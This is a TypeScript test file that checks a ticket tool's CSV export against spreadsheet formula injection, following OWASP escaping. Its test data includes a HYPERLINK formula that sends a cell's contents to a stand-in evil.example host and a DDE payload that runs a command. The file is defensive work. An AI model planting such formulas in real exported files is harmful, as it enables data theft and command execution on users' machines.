import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { correctionCsvLine } from '../../bin/commands/ticket-corrections.ts';
import { csvCell, csvLine, unescapeCsvCell } from '../../lambdas/core/csv-cells.ts';
import { CORRECTIONS_CSV_COLUMNS, readTicketCsv } from '../../lambdas/core/tickets/csv.ts';

/** Titles a spreadsheet would run as a formula, and ones that only look close to it. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "'=already escaped by hand",
  "'quoted' title",
  "''",
  "'",
];
const HARMLESS = ['Login fails', 'a = b', 'C++ build breaks', '', 'a,b', 'say "hi"'];

describe('a CSV cell the product writes', () => {
  it('starts a would-be formula with an apostrophe and quotes it, as OWASP advises', () => {
    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
    expect(csvCell('-2+3')).toBe('"\'-2+3"');
    expect(csvCell('@SUM(1)')).toBe('"\'@SUM(1)"');
    expect(csvCell('+1')).toBe('"\'+1"');
    expect(csvCell('\t=1')).toBe('"\'\t=1"');
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
  });

  it('leaves other cells as RFC 4180 has them, and an empty value empty', () => {
    expect(csvCell('Login fails')).toBe('Login fails');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
  });

  it('reads back exactly as written once parsed and unescaped, apostrophes included', () => {
    const values = [...HOSTILE, ...HARMLESS];
    const [record] = parse(csvLine(values), { relax_quotes: false }) as string[][];
    expect(record?.map(unescapeCsvCell)).toEqual(values);
    for (const cell of record ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('the corrections export read back by train and classify', () => {
  const correction = (title: string, body: string) => ({
    id: 't-1',
    createdAt: new Date('2026-01-02T03:04:05Z'),
    project: '-proj',
    category: 'BUG',
    priority: null,
    team: '@sre',
    title,
    body,
    correctedAt: new Date('2026-01-03T03:04:05Z'),
  });

  async function readBack(text: string) {
    const rows = [];
    for await (const row of readTicketCsv(Readable.from([text]), {
      label: {},
      optionalLabelColumns: ['team'],
      detectProjectColumn: true,
    }))
      rows.push(row);
    return rows;
  }

  it('gives every title, body, project and team back as stored', async () => {
    const header = `${CORRECTIONS_CSV_COLUMNS.join(',')}\n`;
    const lines = HOSTILE.map((title, i) =>
      correctionCsvLine(correction(title, HARMLESS[i % HARMLESS.length] ?? '')),
    );
    const rows = await readBack(header + lines.join(''));
    expect(rows.map((r) => r.title)).toEqual(HOSTILE);
    expect(rows.map((r) => r.project)).toEqual(HOSTILE.map(() => '-proj'));
    expect(rows.map((r) => r.labels?.team)).toEqual(HOSTILE.map(() => '@sre'));
    // Nothing in the file starts a formula.
    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  });

  it('leaves a leading apostrophe alone in a CSV the export did not write', async () => {
    const rows = await readBack("title,body,category\n'quoted' title,b,BUG\n");
    expect(rows[0]?.title).toBe("'quoted' title");
  });
});
